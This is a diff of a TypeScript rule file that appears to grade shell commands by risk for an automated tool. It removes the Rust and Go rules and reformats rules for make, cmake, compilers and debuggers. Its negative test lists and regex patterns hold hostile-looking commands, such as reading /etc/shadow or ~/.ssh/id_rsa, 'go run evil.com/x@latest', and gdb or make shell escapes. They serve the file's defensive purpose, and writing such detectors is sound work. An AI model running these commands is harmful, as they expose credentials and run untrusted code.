@@ -1,81 +1,5 @@
 import type { ProgramRule } from '../program-rule.ts';
-import { ASKING, byOperand, each, type Subcommand } from './each.ts';
-
-const CARGO = `-v --verbose -q --quiet --color: --locked --offline --frozen -C:l --config:!CRITICAL -Z:!HIGH -h!SAFE ${ASKING}`;
-const PACKAGE = `${CARGO} --manifest-path:r -p: --package: --workspace --exclude: --all -F: --features: --all-features --no-default-features --target: --message-format:`;
-const BUILD = `${PACKAGE} --lib --bins --bin: --examples --example: --tests --test: --benches --bench: --all-targets --doc -r --release --profile: -j: --jobs: --keep-going --target-dir:w --artifact-dir:w --out-dir:w --timings? --future-incompat-report --ignore-rust-version --no-run --no-fail-fast --no-deps --open --document-private-items --dry-run --fix --allow-dirty --allow-staged --broken-code --edition`;
-
-const CARGO_SUBCOMMANDS: Readonly<Record<string, Subcommand>> = {
-  ...each('version, help, locate-project, pkgid, read-manifest, verify-project', { options: PACKAGE, operands: 'text' }),
-  ...each('metadata, tree, audit, deny, outdated, machete, udeps, bloat, geiger, msrv', { risk: 'LOW', network: true, options: `${PACKAGE} --filter-platform: --no-deps --format-version: -e: --edges: -i: --invert: --prune: --depth: --prefix: --no-dedupe -d --duplicates --charset: -f: --format: --json -D: --deny: -R --root-deps-only`, operands: 'text' }),
-  ...each('search, info', { risk: 'LOW', network: true, options: `${CARGO} --limit: --registry: --index:u!HIGH`, operands: 'text' }),
-  ...each('check, c, build, b, test, t, bench, run, r, doc, d, clippy, rustc, rustdoc, fix, nextest, expand, miri, llvm-cov, package, fetch, generate-lockfile, clean, watch, criterion, hack, vendor, report', { risk: 'MEDIUM', options: BUILD, operands: 'text', reason: 'builds or runs code of the project' }),
-  // Without --check it rewrites the files.
-  fmt: { risk: 'LOW', isInterpreter: true, stopAtOperand: false, options: `--check!SAFE ${PACKAGE}` },
-  ...each('add, remove, rm, update, new, init, install, uninstall, upgrade, binstall', { risk: 'HIGH', network: true, options: `${BUILD} --git:u --branch: --tag: --rev: --path:l --root:w -f --force --list --vers: --registry: --index:u!CRITICAL --dev --build --optional --precise: --dry-run`, operands: 'text', reason: 'changes what the project is built from, or installs programs' }),
-  ...each('publish, login, logout, owner, yank', { risk: 'CRITICAL', network: true, options: `${BUILD} --token: --registry: --index:`, operands: 'text' }),
-};
-
-const GO = '-C:l -v -x -n -a -race -msan -asan -cover -coverpkg: -covermode: -coverprofile:w -p: -tags: -trimpath -mod: -modfile:r!HIGH -overlay:r!HIGH -pkgdir:w -work -ldflags: -gcflags: -asmflags: -buildmode: -buildvcs? -toolexec:!CRITICAL -exec:!CRITICAL -vettool:!CRITICAL -o:w -json -i -help!SAFE -h!SAFE';
-const GO_TEST = `${GO} -run: -bench: -benchmem -benchtime: -count: -cpu: -failfast -fuzz: -fuzztime: -parallel: -short -timeout: -shuffle: -skip: -list: -vet: -args -c -cpuprofile:w -memprofile:w -blockprofile:w -mutexprofile:w -trace:w -outputdir:w`;
-
-const ELSEWHERE = { pattern: /@(latest|upgrade|patch|none|v\d|main|master|[0-9a-f]{7,})/, risk: 'HIGH', reason: 'runs or installs code that comes from elsewhere' } as const;
-
-/** Rust and Go. */
-export const rustAndGo: readonly ProgramRule[] = [
-  {
-    names: 'cargo',
-    options: `${CARGO} -V!SAFE --list!SAFE --explain:`,
-    subcommands: {
-      ...CARGO_SUBCOMMANDS,
-      ...each('+nightly, +stable, +beta', { options: CARGO, subcommands: CARGO_SUBCOMMANDS }),
-    },
-    match: ['cargo --version', 'cargo locate-project', 'cargo help build', 'cargo pkgid'],
-    notMatch: ['cargo build', 'cargo test', 'cargo install x', 'cargo publish', "cargo --config 'build.rustc-wrapper=\"x\"' pkgid", 'cargo tree --config x=y', 'cargo fmt', 'cargo unheard-of', 'cargo pkgid --unheard-of'],
-  },
-  {
-    names: 'rustc rustdoc rustfmt clippy-driver',
-    ...byOperand,
-    options: `-V!SAFE -v --verbose --print: --explain: --edition: --check --config-path:r --config: -o:w --out-dir:w --emit: --crate-type: --crate-name: --target: -C:!MEDIUM --codegen:!MEDIUM -L:l -l: --cfg: -O -g --test -A: -W: -D: -F: --cap-lints: -h!SAFE ${ASKING}`,
-    match: ['rustc --version', 'rustc -vV', 'rustc --print sysroot', 'rustfmt --version', 'rustc --explain E0308'],
-    notMatch: ['rustc a.rs', 'rustfmt src/a.rs', 'rustc -C linker=/tmp/x a.rs', 'rustc a.rs -o /etc/x'],
-  },
-  {
-    names: 'rustup',
-    options: `-v -q -V!SAFE -h!SAFE ${ASKING}`,
-    subcommands: {
-      ...each('show, toolchain list, target list, component list, override list, which, check, help, completions, doc', { operands: 'text', options: `-v --verbose --installed --toolchain: --path ${ASKING}` }),
-      run: { risk: 'MEDIUM', operands: 'command', skip: 1 },
-    },
-    otherwise: 'HIGH',
-    network: true,
-    match: ['rustup show', 'rustup toolchain list', 'rustup --version', 'rustup target list --installed'],
-    notMatch: ['rustup install nightly', 'rustup default nightly', 'rustup self uninstall', 'rustup run nightly cargo build', 'rustup target add x'],
-  },
-  {
-    names: 'go',
-    singleDash: true,
-    subcommands: {
-      ...each('version, help', { singleDash: true, operands: 'text', options: '-m -v -json' }),
-      env: { singleDash: true, operands: 'text', options: '-json -changed -w!CRITICAL -u!HIGH' },
-      ...each('list, doc, mod graph, mod why, mod verify, tool', { singleDash: true, risk: 'LOW', operands: 'text', options: `${GO} -f: -m -u -versions -deps -test -find -e -compiled -export -all -src -short -c -cmd -u -vendor -http!HIGH -retracted -reuse:r` }),
-      vet: { singleDash: true, risk: 'LOW', operands: 'text', options: GO },
-      ...each('build, test, fmt, generate, clean, fix, mod tidy, mod download, mod vendor, mod init, mod edit, work, bug', { singleDash: true, risk: 'MEDIUM', operands: 'text', options: `${GO_TEST} -modcache!HIGH -cache -testcache -fuzzcache`, reason: 'builds, runs or rewrites code of the project' }),
-      run: { singleDash: true, stopAtOperand: true, risk: 'MEDIUM', operands: 'text', options: GO, dangerousText: ELSEWHERE },
-      ...each('install, get', { singleDash: true, risk: 'HIGH', network: true, operands: 'text', options: GO }),
-    },
-    match: ['go version', 'go env', 'go env GOPATH', 'go help build'],
-    notMatch: ['go build ./...', 'go test ./...', 'go env -w GOPROXY=x', 'go install x@latest', 'go run evil.com/x@latest', 'go vet -vettool=/tmp/x ./...', 'go list ./...', 'go mod tidy', 'go test -exec /tmp/x'],
-  },
-  {
-    names: 'gofmt goimports gofumpt golangci-lint staticcheck govulncheck',
-    risk: 'LOW',
-    operands: 'read',
-    options: `-l -d -e -s -w!MEDIUM -r: -local: -extra -lang: -v --fix!MEDIUM --timeout: --config:r -c:r --out-format: --disable: --enable: --disable-all --enable-all --fast --new --new-from-rev: --tests? -checks: -f: -json -mode: -tags: -h!SAFE ${ASKING}`,
-    match: ['gofmt -l .', 'gofmt -d src/a.go', 'golangci-lint run', 'staticcheck ./...'],
-    notMatch: ['gofmt -w .', 'golangci-lint run --fix', 'gofmt -l /etc', 'gofmt --unheard-of'],
-  },
-];
+import { ASKING, byOperand } from './each.ts';
 
 const MAKE = `-n!SAFE --just-print!SAFE --dry-run!SAFE --recon!SAFE -q!SAFE --question!SAFE -v!SAFE -h!SAFE -p -b -m -B --always-make -C:l --directory:l -d --debug? -e!HIGH --environment-overrides!HIGH -E:!CRITICAL --eval:!CRITICAL -f:r --file:r --makefile:r -i --ignore-errors -I:l --include-dir:l -j? --jobs? -k --keep-going -l? --load-average? --max-load? -L -o: --old-file: --assume-old: -O? --output-sync? -r --no-builtin-rules -R --no-builtin-variables -s --silent --quiet --no-silent -S --no-keep-going --stop -t --touch --trace -w --print-directory --no-print-directory -W: --what-if: --new-file: --assume-new: --warn-undefined-variables ${ASKING}`;
 
@@ -88,9 +12,23 @@ export const nativeTools: readonly ProgramRule[] = [
     isInterpreter: true,
     stopAtOperand: false,
     options: MAKE,
-    dangerousText: { pattern: /^(SHELL|\.SHELLFLAGS|MAKEFLAGS|MAKE|GNUMAKEFLAGS|MAKEFILES|LD_\w+)[:+?!]*=|^-$|^(-f|--(make)?file=)(-|\/dev\/stdin)$/, risk: 'CRITICAL', reason: 'make would run something else than the Makefile says' },
+    dangerousText: {
+      pattern:
+        /^(SHELL|\.SHELLFLAGS|MAKEFLAGS|MAKE|GNUMAKEFLAGS|MAKEFILES|LD_\w+)[:+?!]*=|^-$|^(-f|--(make)?file=)(-|\/dev\/stdin)$/,
+      risk: 'CRITICAL',
+      reason: 'make would run something else than the Makefile says',
+    },
     match: ['make -n', 'make --dry-run build', 'make build -n', 'make --version', 'make -qp'],
-    notMatch: ['make', 'make test', 'make SHELL=/tmp/x -n', "make -n --eval='$(shell id)'", 'make -n -C /etc', 'make -n -f /tmp/Makefile', 'make -n --unheard-of', 'make -n -f - <<< x'],
+    notMatch: [
+      'make',
+      'make test',
+      'make SHELL=/tmp/x -n',
+      "make -n --eval='$(shell id)'",
+      'make -n -C /etc',
+      'make -n -f /tmp/Makefile',
+      'make -n --unheard-of',
+      'make -n -f - <<< x',
+    ],
   },
   {
     names: 'ninja samu',
@@ -114,24 +52,74 @@ export const nativeTools: readonly ProgramRule[] = [
     names: 'cmake meson bazel bazelisk buck2',
     ...byOperand,
     options: `-S:l!MEDIUM -B:w!MEDIUM --build:l!MEDIUM --preset:!MEDIUM --workflow!MEDIUM -P:r!MEDIUM -C:!MEDIUM --install:!HIGH --open:!HIGH -E!HIGH -D: -U: -G: -T: -A: -W: -L -N --fresh --target: -j? --parallel? --config: --clean-first --toolchain:r --install-prefix:w --log-level: --graphviz:w --trace --list-presets? --system-information -V --verbose -R: --test-dir:l!MEDIUM --output-on-failure -f:r -h!SAFE --help-command: --help-variable: --help-module: --help-property: --help-manual: --help-full ${ASKING}`,
-    dangerousText: { pattern: /^(rm|remove|remove_directory|rename|chdir|env|time|run_command|tar|copy|copy_directory|install|dist|clean|--workspace_status_command.*|--run_under.*|--test-launcher.*|--wrapper.*|--wrap.*)$/, risk: 'HIGH', reason: 'installs, deletes or runs something of its own' },
-    match: ['cmake --version', 'cmake --help', 'meson --version', 'bazel --version', 'cmake --help-command add_test'],
-    notMatch: ['cmake -S . -B build', 'cmake --build build', 'cmake ..', 'cmake -E rm -rf x', 'bazel run //x', 'meson install', 'cmake -P x.cmake', 'bazel build //...'],
+    dangerousText: {
+      pattern:
+        /^(rm|remove|remove_directory|rename|chdir|env|time|run_command|tar|copy|copy_directory|install|dist|clean|--workspace_status_command.*|--run_under.*|--test-launcher.*|--wrapper.*|--wrap.*)$/,
+      risk: 'HIGH',
+      reason: 'installs, deletes or runs something of its own',
+    },
+    match: [
+      'cmake --version',
+      'cmake --help',
+      'meson --version',
+      'bazel --version',
+      'cmake --help-command add_test',
+    ],
+    notMatch: [
+      'cmake -S . -B build',
+      'cmake --build build',
+      'cmake ..',
+      'cmake -E rm -rf x',
+      'bazel run //x',
+      'meson install',
+      'cmake -P x.cmake',
+      'bazel build //...',
+    ],
   },
   {
-    names: 'gcc g++ cc c++ clang clang++ cpp tcc icc nvcc ld ld.lld lld gold as nasm yasm gfortran ghc swiftc javac kotlinc scalac groovyc zig nim crystal dmd ldc2 ocamlc ocamlopt fpc valac emcc protoc flex bison yacc',
+    names:
+      'gcc g++ cc c++ clang clang++ tcc icc nvcc ld ld.lld lld gold as nasm yasm gfortran ghc swiftc javac kotlinc scalac groovyc zig nim crystal dmd ldc2 ocamlc ocamlopt fpc valac emcc protoc flex bison yacc',
     ...byOperand,
     singleDash: true,
     options: `-v -V!SAFE -h!SAFE -help!SAFE -version!SAFE -dumpversion!SAFE -dumpmachine!SAFE -dumpfullversion!SAFE -print-search-dirs!SAFE -print-multiarch!SAFE -print-targets!SAFE --target-help!SAFE --print-search-dirs!SAFE --verbose -o:w -d:w -c -S -E -O0 -O1 -O2 -O3 -Os -Og -g -Wall -Wextra -Werror -pedantic -shared -static -fPIC -pthread -m64 -m32 -std: -march: -mtune: -x: -I:l -L:l -T:r -wrapper:!CRITICAL -specs:r!HIGH -fplugin:r!CRITICAL -B:!HIGH -load:r!CRITICAL --plugin:r!HIGH -plugin:r!CRITICAL -processorpath:!HIGH -e:!HIGH -pgmF:!CRITICAL ${ASKING}`,
-    dangerousText: { pattern: /^@|^-(fplugin|wrapper|specs|Wp,|B\/|B\.)|^-o[~/]|^-X(plugin|clang)|^\/(etc|root|proc|dev)\/|^--plugin=|^-J-/, risk: 'HIGH', reason: 'loads or reads something other than sources' },
-    match: ['gcc --version', 'clang --version', 'gcc -dumpmachine', 'cc -v', 'javac -version', 'ghc --version', 'zig --help'],
-    notMatch: ['gcc a.c', 'gcc -o x a.c', 'gcc -wrapper /bin/sh,-s .', 'gcc -x c -E /etc/shadow', 'clang -fplugin=./x.so a.c', 'gcc @/etc/shadow', 'zig build', 'gcc -o ~/.bashrc a.c'],
+    dangerousText: {
+      pattern:
+        /^@|^-(fplugin|wrapper|specs|Wp,|B\/|B\.)|^-o[~/]|^-X(plugin|clang)|^\/(etc|root|proc|dev)\/|^--plugin=|^-J-/,
+      risk: 'HIGH',
+      reason: 'loads or reads something other than sources',
+    },
+    match: [
+      'gcc --version',
+      'clang --version',
+      'gcc -dumpmachine',
+      'cc -v',
+      'javac -version',
+      'ghc --version',
+      'zig --help',
+    ],
+    notMatch: [
+      'gcc a.c',
+      'gcc -o x a.c',
+      'gcc -wrapper /bin/sh,-s .',
+      'gcc -x c -E /etc/shadow',
+      'clang -fplugin=./x.so a.c',
+      'gcc @/etc/shadow',
+      'zig build',
+      'gcc -o ~/.bashrc a.c',
+    ],
   },
   {
     names: 'objdump nm readelf size llvm-objdump llvm-nm llvm-readelf c++filt addr2line dwarfdump otool lipo',
     operands: 'read',
     options: `-a -A -b: -B -c -C --demangle? --no-demangle -d --disassemble? -D --disassemble-all -e -f -F -g -G -h -H -i -I -j: -l -L -m: -M: -n -N -o -p -P -q -r -R -s -S --source -t -T -u -U: -v -V -w? -W? -x: -z --archive-headers --file-headers --private-headers --all-headers --full-contents --debugging --stabs --dwarf? --syms --dynamic-syms --reloc --dynamic-reloc --info --target: --architecture: --section: --disassembler-options: --line-numbers --file-offsets --wide --disassemble-zeroes --start-address: --stop-address: --no-addresses --prefix-addresses --no-show-raw-insn --show-raw-insn --visualize-jumps? --disassembler-color: --inlines --all --file-header --program-headers --segments --section-headers --sections --headers --symbols --dyn-syms --notes --relocs --dynamic --version-info --hex-dump: --string-dump: --debug-dump? --use-dynamic --histogram --debug-syms --print-file-name --extern-only --defined-only --undefined-only --numeric-sort --size-sort --no-sort --reverse-sort --print-size --line-numbers --format: --radix: --just-symbols --portability --special-syms --synthetic --with-symbol-versions --quiet -E: -1 -X: --functions --exe: --basenames --totals --common --radix --help --version`,
-    match: ['objdump -d a.out', 'nm -C a.out', 'readelf -h a.out', 'readelf -Ws lib.so', 'size a.out', 'objdump -t a.o'],
+    match: [
+      'objdump -d a.out',
+      'nm -C a.out',
+      'readelf -h a.out',
+      'readelf -Ws lib.so',
+      'size a.out',
+      'objdump -t a.o',
+    ],
     notMatch: ['objdump -d /etc/shadow', 'nm --plugin x a.o', 'readelf --unheard-of a', 'nm ~/.ssh/id_rsa'],
   },
   {
@@ -141,9 +129,21 @@ export const nativeTools: readonly ProgramRule[] = [
     options: `-v -u -r -d -ex:!CRITICAL -iex:!CRITICAL --eval-command:!CRITICAL --init-eval-command:!CRITICAL -x:r!CRITICAL --command:r!CRITICAL --init-command:r!CRITICAL -ix:r!CRITICAL -p:!HIGH --pid:!HIGH --attach?!HIGH --batch --batch-silent --args -q --quiet --silent -n -nx --nx --nh -c: --core:r --exec:r --se:r --symbols:r --directory:l --cd:l --write!HIGH --tui --nw --tty: -o:!CRITICAL -O:!CRITICAL -s:r!CRITICAL -S:r!CRITICAL --tool: --leak-check: --log-file:w -e:!CRITICAL --source:r!CRITICAL --one-line:!CRITICAL -h!SAFE ${ASKING}`,
     singleDash: true,
     reason: 'starts the program it looks into',
-    dangerousText: { pattern: /^(-ex|-iex|-x|--eval-command|--command|-ix)(=|$)|^(shell|!|python|pipe|make) ?|^0\.0\.0\.0|^record$|^-exec|^:\d+/, risk: 'CRITICAL', reason: 'runs commands inside the debugger' },
+    dangerousText: {
+      pattern:
+        /^(-ex|-iex|-x|--eval-command|--command|-ix)(=|$)|^(shell|!|python|pipe|make) ?|^0\.0\.0\.0|^record$|^-exec|^:\d+/,
+      risk: 'CRITICAL',
+      reason: 'runs commands inside the debugger',
+    },
     match: ['ldd a.out', 'gdb --version', 'valgrind ./a.out', 'ldd --version'],
-    notMatch: ["gdb -nx -ex '!sh' -ex quit", 'gdb -p 123', "gdb --eval-command='shell id'", 'gdb -x /tmp/x', 'ldd /etc/shadow', "lldb -o 'platform shell id'"],
+    notMatch: [
+      "gdb -nx -ex '!sh' -ex quit",
+      'gdb -p 123',
+      "gdb --eval-command='shell id'",
+      'gdb -x /tmp/x',
+      'ldd /etc/shadow',
+      "lldb -o 'platform shell id'",
+    ],
   },
 ];
 
@@ -158,19 +158,35 @@ export const buildTools: readonly ProgramRule[] = [
     notMatch: ['ctest -S x.cmake', 'ctest --test-dir /root/x'],
   },
   {
-    names: 'ar ranlib strip objcopy patchelf install_name_tool',
+    names: 'ranlib strip objcopy patchelf install_name_tool',
     risk: 'MEDIUM',
     operands: 'write',
     options: `-s -S -g -d -x -X -K: -N: -R: -o:w -p -v -V -D -U -I: -O: -j: --strip-all --strip-debug --strip-unneeded --only-keep-debug --add-gnu-debuglink:r --add-section: --dump-section: --set-rpath: --replace-needed: --plugin:r!HIGH -h!SAFE ${ASKING}`,
-    match: ['ar t lib.a', 'strip a.out', 'objcopy --only-keep-debug a.out a.debug', 'strip --version'],
-    notMatch: ['strip /usr/bin/ls', 'objcopy a.out ~/.bashrc', 'strip -o /etc/x a.out', 'ar --plugin ./x.so t a'],
+    match: ['strip a.out', 'objcopy --only-keep-debug a.out a.debug', 'strip --version'],
+    notMatch: [
+      'strip /usr/bin/ls',
+      'objcopy a.out ~/.bashrc',
+      'strip -o /etc/x a.out',
+      'strip --plugin ./x.so a',
+    ],
   },
   {
     names: 'pkg-config pkgconf llvm-config ccache sccache ctags clang-format clang-tidy',
     risk: 'LOW',
     operands: 'read',
     options: `--cflags --libs --libs-only-l --libs-only-L --cflags-only-I --modversion --exists --list-all --variable: --print-errors --static --print-variables --prefix --includedir --libdir --ldflags --components --targets-built --host-target -s --show-stats -p --print-config -n --dry-run --Werror --style: -style: --fallback-style: --dump-config --assume-filename: -i!MEDIUM -fix!MEDIUM --fix!MEDIUM --fix-errors!MEDIUM -checks: --checks: -R -f:w -o:w --options:r!HIGH --load:!CRITICAL -load:!CRITICAL -C!MEDIUM -z!MEDIUM -c!MEDIUM ${ASKING}`,
-    match: ['pkg-config --cflags --libs openssl', 'pkg-config --modversion zlib', 'clang-format --dry-run a.c', 'ccache -s'],
-    notMatch: ['clang-format -i a.c', 'ctags -R -f /etc/x', 'clang-tidy --fix a.c', 'ccache -C', 'pkg-config --unheard-of'],
+    match: [
+      'pkg-config --cflags --libs openssl',
+      'pkg-config --modversion zlib',
+      'clang-format --dry-run a.c',
+      'ccache -s',
+    ],
+    notMatch: [
+      'clang-format -i a.c',
+      'ctags -R -f /etc/x',
+      'clang-tidy --fix a.c',
+      'ccache -C',
+      'pkg-config --unheard-of',
+    ],
   },
 ];
